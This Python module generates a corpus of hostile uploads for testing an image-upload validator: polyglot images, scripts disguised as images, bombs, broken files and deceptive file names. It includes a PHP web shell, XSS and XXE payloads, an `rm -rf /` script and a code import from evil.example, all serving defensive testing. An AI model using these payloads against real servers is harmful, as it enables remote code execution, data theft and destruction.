"""A corpus of hostile and broken uploads, made by code: nothing binary is committed.

Every file is one an image upload must refuse: web pages, scripts and
programs under an image's name, images that smuggle markup or an archive,
formats the portal does not accept, broken and truncated files, pixel floods,
decompression bombs, animation bombs, oversized files, and names meant to
mislead (path traversal, NUL, right-to-left override, double extensions).
An odd name travels with content or an extension that is refused, so that
each file is hostile in at least one way the checks must see.

``corpus(max_bytes)`` returns ``Hostile(name, data, what)`` items; the
oversized file is sized from ``max_bytes``, the limit of the upload it goes to.
"""

import gzip
import io
import struct
import tarfile
import zipfile
import zlib
from dataclasses import dataclass
from functools import cache

from PIL import Image, ImageDraw

HTML = b"<!DOCTYPE html><html><body><script>alert(document.domain)</script></body></html>"
PHP = b"<?php echo shell_exec($_GET['cmd']); ?>"
JS = b"alert(document.cookie);//"
SVG = (
    b'<?xml version="1.0" encoding="UTF-8"?>\n'
    b'<svg xmlns="http://www.w3.org/2000/svg" width="100" height="100" onload="alert(1)">'
    b"<script>alert(document.domain)</script><rect width='100' height='100'/></svg>"
)


@dataclass(frozen=True)
class Hostile:
    name: str
    data: bytes
    what: str


# --- Valid images to start from ------------------------------------------------------------------


@cache
def picture(format: str, size=(64, 48), mode="RGB") -> bytes:
    image = Image.new(mode, size, (180, 60, 40))
    ImageDraw.Draw(image).rectangle((4, 4, size[0] // 2, size[1] // 2), fill=(20, 90, 200))
    buffer = io.BytesIO()
    image.save(buffer, format)
    return buffer.getvalue()


def png_chunk(kind: bytes, data: bytes, crc: int | None = None) -> bytes:
    checksum = zlib.crc32(kind + data) & 0xFFFFFFFF if crc is None else crc
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", checksum)


PNG_SIGNATURE = b"\x89PNG\r\n\x1a\n"


def png_raw(width: int, height: int, *, rows: bytes | None = None, extra: bytes = b"", bit_depth=8, colour=0) -> bytes:
    """A PNG written chunk by chunk: greyscale unless told, ``extra`` chunks before the pixels."""
    header = struct.pack(">IIBBBBB", width, height, bit_depth, colour, 0, 0, 0)
    # Only the first bytes of the pixels: a flood is refused long before they are read.
    idat = zlib.compress(rows if rows is not None else b"\x00" * min((width + 1) * height, 4096), 9)
    return PNG_SIGNATURE + png_chunk(b"IHDR", header) + extra + png_chunk(b"IDAT", idat) + png_chunk(b"IEND", b"")


def png_insert(data: bytes, chunk: bytes) -> bytes:
    """``chunk`` inserted right after IHDR (33 bytes from the start)."""
    return data[:33] + chunk + data[33:]


def jpeg_with_segment(marker: int, payload: bytes) -> bytes:
    """A valid JPEG with one more segment (APPn, COM) right after SOI."""
    data = picture("JPEG")
    segment = struct.pack(">BBH", 0xFF, marker, len(payload) + 2) + payload
    return data[:2] + segment + data[2:]


def jpeg_declaring(width: int, height: int) -> bytes:
    """A valid small JPEG whose SOF0 header claims another size."""
    data = bytearray(picture("JPEG"))
    sof = data.index(b"\xff\xc0")
    data[sof + 5 : sof + 9] = struct.pack(">HH", height, width)
    return bytes(data)


def gif_declaring(width: int, height: int) -> bytes:
    data = bytearray(picture("GIF"))
    data[6:10] = struct.pack("<HH", width, height)
    return bytes(data)


def webp_lossless_declaring(width: int, height: int) -> bytes:
    """A VP8L WebP header claiming ``width`` × ``height`` (at most 16384 each), with no real pixels."""
    bits = (width - 1) | ((height - 1) << 14)
    payload = b"\x2f" + struct.pack("<I", bits) + b"\x00" * 16
    chunk = b"VP8L" + struct.pack("<I", len(payload)) + payload
    return b"RIFF" + struct.pack("<I", 4 + len(chunk)) + b"WEBP" + chunk


def webp_with_chunk(kind: bytes, payload: bytes) -> bytes:
    """A valid WebP with an extra RIFF chunk at its end, the RIFF size corrected."""
    data = picture("WEBP")
    if len(payload) % 2:
        payload += b"\x00"
    body = data[12:] + kind + struct.pack("<I", len(payload)) + payload
    return b"RIFF" + struct.pack("<I", 4 + len(body)) + b"WEBP" + body


def tiff_bytes(byte_order="II") -> bytes:
    buffer = io.BytesIO()
    Image.new("RGB", (32, 32), (1, 2, 3)).save(buffer, "TIFF")
    data = buffer.getvalue()
    return data if byte_order == "II" else b"MM\x00*" + data[4:]  # a big-endian header on little-endian data


def animated(format: str, frames: int, size=(64, 64)) -> bytes:
    images = [Image.new("RGB", size, (frame * 7 % 256, 80, 255 - frame % 256)) for frame in range(frames)]
    buffer = io.BytesIO()
    images[0].save(buffer, format, save_all=True, append_images=images[1:], duration=20, loop=0)
    return buffer.getvalue()


def apng_declaring(frames: int) -> bytes:
    """A one-frame PNG whose animation control chunk claims ``frames`` frames."""
    return png_insert(png_raw(8, 8), png_chunk(b"acTL", struct.pack(">II", frames, 0)))


def png_bomb(width: int, height: int) -> bytes:
    """A real 1-bit PNG of ``width`` × ``height`` zeros: a few kilobytes that would decode to gigabytes."""
    row = b"\x00" + b"\x00" * ((width + 7) // 8)
    compressor = zlib.compressobj(9)
    idat = compressor.compress(row * height) + compressor.flush()
    header = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    return PNG_SIGNATURE + png_chunk(b"IHDR", header) + png_chunk(b"IDAT", idat) + png_chunk(b"IEND", b"")


def text_chunk_bomb() -> bytes:
    """A PNG whose compressed text chunk inflates to 64 MB."""
    compressed = zlib.compress(b"A" * (64 * 1024 * 1024), 9)
    return png_insert(picture("PNG"), png_chunk(b"zTXt", b"Comment\x00\x00" + compressed))


def zip_of(members: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return buffer.getvalue()


def tar_of(members: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w") as archive:
        for name, data in members.items():
            info = tarfile.TarInfo(name)
            info.size = len(data)
            archive.addfile(info, io.BytesIO(data))
    return buffer.getvalue()


def pdf_bytes(script: bool = False) -> bytes:
    action = b"/OpenAction << /S /JavaScript /JS (app.alert(1)) >>" if script else b""
    return (
        b"%PDF-1.4\n1 0 obj << /Type /Catalog /Pages 2 0 R " + action + b" >> endobj\n"
        b"2 0 obj << /Type /Pages /Kids [] /Count 0 >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n"
    )


EPS = b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 10 10\nnewpath 0 0 moveto 10 10 lineto stroke\nshowpage\n"


def dos_eps() -> bytes:
    """Binary (DOS) EPS: a header pointing at a PostScript section."""
    header = b"\xc5\xd0\xd3\xc6" + struct.pack("<IIIIIIH", 30, len(EPS), 0, 0, 0, 0, 0xFFFF)
    return header + EPS


def oversized(max_bytes: int) -> bytes:
    """A real JPEG just over ``max_bytes``: the size alone must refuse it, before any decoding."""
    start = picture("JPEG")
    # Bytes in a comment segment (at most 65533 each) pad the file past the limit.
    segment = b"\xff\xfe" + struct.pack(">H", 65535) + b"\x00" * 65533
    padding = segment * (max_bytes // len(segment) + 1)
    return start[:2] + padding + start[2:]


# --- The corpus ----------------------------------------------------------------------------------


def corpus(max_bytes: int) -> list[Hostile]:
    png, jpeg, webp, gif = picture("PNG"), picture("JPEG"), picture("WEBP"), picture("GIF")
    files: list[Hostile] = []

    def add(name: str, data: bytes, what: str) -> None:
        files.append(Hostile(name, data, what))

    # Polyglots: a valid image that is also a web page, a script or an archive.
    add("polyglot.png", png + HTML, "PNG with HTML after IEND")
    add("polyglot-text.png", png_insert(png, png_chunk(b"tEXt", b"Comment\x00" + HTML)), "PNG with HTML in tEXt")
    add("polyglot-itxt.png", png_insert(png, png_chunk(b"iTXt", b"XML\x00\x00\x00\x00\x00" + HTML)), "HTML in iTXt")
    add("polyglot-private.png", png_insert(png, png_chunk(b"htMl", HTML)), "PNG with HTML in a private chunk")
    add("php.png", png + PHP, "PNG with PHP appended")
    add("html-first.png", HTML + png, "HTML followed by a PNG")
    add("appended.jpg", jpeg + HTML, "JPEG with HTML after EOI")
    add("appended-php.jpg", jpeg + PHP, "JPEG with PHP after EOI")
    add("comment-php.jpg", jpeg_with_segment(0xFE, PHP), "JPEG with PHP in a COM segment")
    add("comment-html.jpeg", jpeg_with_segment(0xFE, HTML), "JPEG with HTML in a COM segment")
    add("app15-script.jpg", jpeg_with_segment(0xEF, b"<script>alert(1)</script>"), "script in an APP15 segment")
    exif = Image.Exif()
    exif[0x010E] = "<script>alert(1)</script>"  # ImageDescription
    exif[0x9286] = "<?php system($_GET['c']); ?>"  # UserComment
    buffer = io.BytesIO()
    Image.open(io.BytesIO(jpeg)).save(buffer, "JPEG", exif=exif)
    add("exif-script.jpg", buffer.getvalue(), "script and PHP in EXIF fields")
    add("xmp-iframe.jpg", jpeg_with_segment(0xE1, b"http://ns.adobe.com/xap/1.0/\x00<iframe src=//x>"), "iframe in XMP")
    add("appended.webp", webp + HTML, "WebP with HTML after the RIFF")
    add("chunk.webp", webp_with_chunk(b"HTML", HTML), "WebP with an HTML chunk inside the RIFF")
    add("exif-chunk.webp", webp_with_chunk(b"EXIF", b"Exif\x00\x00<?php phpinfo(); ?>"), "WebP with PHP in EXIF")
    add("gifar.gif", gif + zip_of({"a.class": b"\xca\xfe\xba\xbe"}), "GIF with a JAR appended")
    add("gif-php.gif", gif[:-1] + b"\x21\xfe" + bytes([len(PHP)]) + PHP + b"\x00\x3b", "GIF with PHP in a comment")
    add("gif89a-php.jpg", b"GIF89a" + PHP, "GIF magic followed by PHP")
    add("jpeg-zip.jpg", jpeg + zip_of({"evil.html": HTML}), "JPEG that is also a ZIP")
    add("png-zip.png", png + zip_of({"shell.php": PHP}), "PNG that is also a ZIP")
    add("jpeg-pdf.jpg", jpeg + pdf_bytes(script=True), "JPEG with a PDF appended")
    add("magic-html.jpg", b"\xff\xd8\xff\xe0" + HTML, "JPEG magic bytes, then HTML")
    add("magic-html.png", PNG_SIGNATURE + HTML, "PNG signature, then HTML")
    add("riff-html.webp", b"RIFF\x40\x00\x00\x00WEBP" + HTML, "WebP header, then HTML")

    # Web pages, scripts and programs under an image's name.
    add("page.jpg", HTML, "HTML named .jpg")
    add("page.png", HTML, "HTML named .png")
    add("page.webp", HTML, "HTML named .webp")
    add("PAGE.JPEG", HTML.upper(), "upper-case HTML named .JPEG")
    add("bom.jpg", b"\xef\xbb\xbf" + HTML, "HTML with a byte-order mark")
    add("spaces.png", b"\r\n \t " + HTML, "HTML after white space")
    add("utf16.jpg", "<html><script>alert(1)</script></html>".encode("utf-16"), "UTF-16 HTML")
    add("fragment.jpg", b"<img src=x onerror=alert(1)>", "an HTML fragment")
    add("shell.jpg", PHP, "PHP named .jpg")
    add("short-tag.png", b"<?= `id` ?>", "PHP short tag named .png")
    add("script.png", JS, "JavaScript named .png")
    add("module.jpg", b"import('//evil.example/x.js')", "JavaScript module named .jpg")
    add("sh.jpg", b"#!/bin/sh\nrm -rf /\n", "shell script named .jpg")
    add("elf.jpg", b"\x7fELF\x02\x01\x01" + b"\x00" * 120, "ELF program named .jpg")
    add("mz.png", b"MZ\x90\x00" + b"\x00" * 120, "Windows program named .png")
    xhtml = b'<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><script>x</script></html>'
    add("xhtml.jpg", xhtml, "XHTML")
    add("xml-xxe.png", b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>', "XXE")
    add("htaccess.jpg", b"AddType application/x-httpd-php .jpg\n", ".htaccess content")
    add("json.png", b'{"__proto__": {"polluted": true}}', "JSON named .png")
    add("css.jpg", b"body{background:url(javascript:alert(1))}", "CSS named .jpg")
    add("wasm.png", b"\x00asm\x01\x00\x00\x00", "WebAssembly named .png")

    # SVG, which can carry script, however it is named.
    add("drawing.svg", SVG, "SVG with script")
    add("drawing.png", SVG, "SVG named .png")
    add("drawing.jpg", SVG.replace(b"<?xml", b"\xef\xbb\xbf<?xml"), "SVG with BOM named .jpg")
    add("bare.webp", b"<svg onload=alert(1)>", "bare SVG tag named .webp")
    add("upper.png", SVG.upper(), "upper-case SVG")
    late_svg = b"\n" * 300 + b"<svg xmlns='http://www.w3.org/2000/svg'><script>1</script></svg>"
    add("late-svg.jpg", late_svg, "SVG after blank lines")
    add("drawing.svgz", gzip.compress(SVG), "gzipped SVG")
    add("svgz.png", gzip.compress(SVG), "gzipped SVG named .png")
    foreign = b'<svg><foreignObject><iframe src="javascript:alert(1)"/></foreignObject></svg>'
    add("foreign.jpg", foreign, "SVG foreignObject")

    # Formats the portal does not accept.
    add("animation.gif", gif, "GIF")
    add("photo.tif", tiff_bytes("II"), "TIFF, little-endian")
    add("photo.tiff", tiff_bytes("MM"), "TIFF, big-endian header")
    add("tiff.jpg", tiff_bytes("II"), "TIFF named .jpg")
    add("document.pdf", pdf_bytes(), "PDF")
    add("pdf.jpg", pdf_bytes(script=True), "PDF with JavaScript named .jpg")
    add("figure.eps", EPS, "EPS")
    add("eps.png", EPS, "EPS named .png")
    add("dos.eps", dos_eps(), "binary (DOS) EPS")
    add("dos-eps.jpg", dos_eps(), "binary EPS named .jpg")
    add("picture.bmp", picture("BMP"), "BMP")
    add("bmp.jpg", picture("BMP"), "BMP named .jpg")
    add("favicon.ico", picture("ICO", (32, 32)), "ICO")
    add("ico.png", picture("ICO", (32, 32)), "ICO named .png")
    add("picture.pcx", picture("PCX"), "PCX")
    add("picture.tga", picture("TGA"), "TGA")
    add("picture.ppm", picture("PPM"), "PPM")
    add("xbm.png", b"#define x_width 8\n#define x_height 1\nstatic char x_bits[] = {0x00};\n", "XBM (C source)")
    add("psd.jpg", b"8BPS\x00\x01" + b"\x00" * 40, "Photoshop header named .jpg")
    add("heic.jpg", b"\x00\x00\x00\x18ftypheic\x00\x00\x00\x00mif1heic" + b"\x00" * 64, "HEIC named .jpg")
    add("jp2.png", b"\x00\x00\x00\x0cjP  \r\n\x87\n" + b"\x00" * 64, "JPEG 2000 named .png")
    add("video.jpg", b"\x00\x00\x00\x20ftypisom\x00\x00\x02\x00isomiso2avc1mp41" + b"\x00" * 64, "MP4 named .jpg")
    add("archive.jpg", zip_of({"photo.jpg": jpeg}), "ZIP named .jpg")
    add("archive.png", gzip.compress(png), "gzip named .png")
    add("tarball.jpg", tar_of({"photo.jpg": jpeg}), "tar named .jpg")

    # Broken: empty, truncated, damaged.
    add("empty.jpg", b"", "zero bytes, .jpg")
    add("empty.png", b"", "zero bytes, .png")
    add("empty.webp", b"", "zero bytes, .webp")
    add("one-byte.jpg", b"\xff", "one byte")
    add("soi-only.jpg", b"\xff\xd8", "JPEG SOI only")
    add("signature-only.png", PNG_SIGNATURE, "PNG signature only")
    add("riff-only.webp", b"RIFF\x00\x00\x00\x00WEBP", "WebP header only")
    add("cut-header.png", png[:40], "PNG cut inside IHDR")
    add("cut-after-ihdr.png", png[:33], "PNG cut after IHDR")
    add("cut-idat.png", png[: len(png) - 30], "PNG cut inside IDAT")
    add("no-iend.png", png[:-12], "PNG without IEND")
    add("cut-header.jpg", jpeg[:30], "JPEG cut in its header")
    large = picture("JPEG", (480, 360))
    add("cut-scan.jpg", large[: len(large) * 2 // 3], "JPEG cut in its scan")
    add("no-eoi.jpg", jpeg[:-2], "JPEG without EOI")
    add("cut.webp", webp[: len(webp) // 2], "WebP cut in half")
    bad_crc = png[:29] + b"\x00\x00\x00\x00" + png[33:]
    add("bad-crc.png", bad_crc, "PNG with a wrong IHDR checksum")
    add("bad-zlib.png", png_raw(16, 16, rows=b"")[:41] + b"garbage!" * 4 + png_chunk(b"IEND", b""), "IDAT not zlib")
    add("zero-width.png", png_raw(0, 10), "PNG of width 0")
    add("zero-size.jpg", jpeg_declaring(0, 0), "JPEG of 0 × 0")
    add("wide.png", png_raw(0xFFFFFFFF, 1), "PNG claiming a width of 2³²−1")
    add("noise.jpg", bytes((i * 7919 + 13) % 256 for i in range(4096)), "noise")
    add("zeros.png", b"\x00" * 4096, "zeros")
    add("ff.jpg", b"\xff" * 4096, "0xFF bytes")
    add("text-bomb.png", text_chunk_bomb(), "PNG text chunk inflating to 64 MB")
    damaged = bytearray(jpeg)
    damaged[damaged.index(b"\xff\xc4") + 5 : damaged.index(b"\xff\xc4") + 25] = b"\xff" * 20
    add("bad-huffman.jpg", bytes(damaged), "JPEG with damaged Huffman tables")

    # Pixel floods and decompression bombs.
    add("flood.png", png_raw(100_000, 100_000), "PNG claiming 100 000 × 100 000")
    add("flood-tall.png", png_raw(1, 2_000_000_000), "PNG claiming 1 × 2 000 000 000")
    add("flood.jpg", jpeg_declaring(65_500, 65_500), "JPEG claiming 65 500 × 65 500")
    add("flood-over-limit.jpg", jpeg_declaring(10_000, 6_000), "JPEG claiming 60 megapixels")
    add("flood.webp", webp_lossless_declaring(16_384, 16_384), "WebP claiming 16 384 × 16 384")
    add("flood.gif", gif_declaring(65_535, 65_535), "GIF claiming 65 535 × 65 535")
    add("bomb.png", png_bomb(30_000, 30_000), "real 1-bit PNG of 900 megapixels")
    add("bomb-limit.png", png_bomb(8_000, 8_000), "real 1-bit PNG of 64 megapixels")

    # Animation bombs.
    add("frames.gif", animated("GIF", 400), "GIF of 400 frames")
    add("frames.png", animated("PNG", 200), "APNG of 200 frames")
    add("frames-claimed.png", apng_declaring(2**31 - 1), "PNG claiming 2³¹−1 animation frames")
    add("frames.webp", animated("WEBP", 200), "animated WebP of 200 frames")
    add("two-frames.webp", animated("WEBP", 2), "animated WebP of 2 frames")

    # Too big.
    add("huge.jpg", oversized(max_bytes), "a JPEG just over the size limit")

    # Odd names, each with content or an extension that is refused.
    add("../../../../etc/passwd", png, "path traversal, no extension")
    add("..\\..\\windows\\win.ini.jpg", HTML, "Windows path traversal")
    add("/var/www/html/shell.php", png, "absolute path to a .php")
    add("photo.jpg\x00.php", PHP, "NUL before a .php")
    add("photo.php\x00.jpg", jpeg, "NUL inside the name")
    add("photo\u202egpj.php", png, "right-to-left override hiding .php")
    add("invoice\u202egpj.html", jpeg, "right-to-left override: shows as invoicelmth.jpg")
    add("photo\u2066.jpg\u2069.exe", jpeg, "bidi isolates around a fake extension")
    add("a" * 300 + ".jpg", HTML, "300-character name")
    add("photo.jpg.php", jpeg, "double extension ending in .php")
    add("photo.php.jpg", jpeg_with_segment(0xFE, PHP), "double extension hiding PHP")
    add("photo.php5.png", png, "double extension .php5.png")
    add("page.html.webp", webp, "double extension .html.webp")
    add("photo.jpg;.php", jpeg, "semicolon trick")
    add("photo.php%00.jpg", PHP, "encoded NUL")
    add("photo.jpg.", png, "trailing dot")
    add("photo.jpg ", HTML, "trailing space")
    add("photo", jpeg, "no extension")
    add(".htaccess", b"AddType application/x-httpd-php .jpg\n", ".htaccess")
    add("photo.phtml", png, ".phtml")
    add("photo.html", jpeg, ".html with JPEG content")
    add("photo.svg", png, ".svg with PNG content")
    add("photo.gif", jpeg, ".gif with JPEG content")
    add("photo.exe", webp, ".exe with WebP content")
    add("con.jpg", HTML, "Windows device name")
    add("снимка.jpg", SVG, "Cyrillic name, SVG content")
    add("照片.png", PHP, "Chinese name, PHP content")
    add("😀.webp", webp[:20], "emoji name, truncated WebP")
    add("<script>alert(1)</script>.jpg", HTML, "markup in the name")
    add('"><img src=x onerror=alert(1)>.png', png[:50], "attribute breakout in the name")
    add("photo\r\n.jpg", HTML, "line break in the name")
    add("Ｐｈｏｔｏ．ｐｈｐ", png, "full-width letters, .php")
    return files
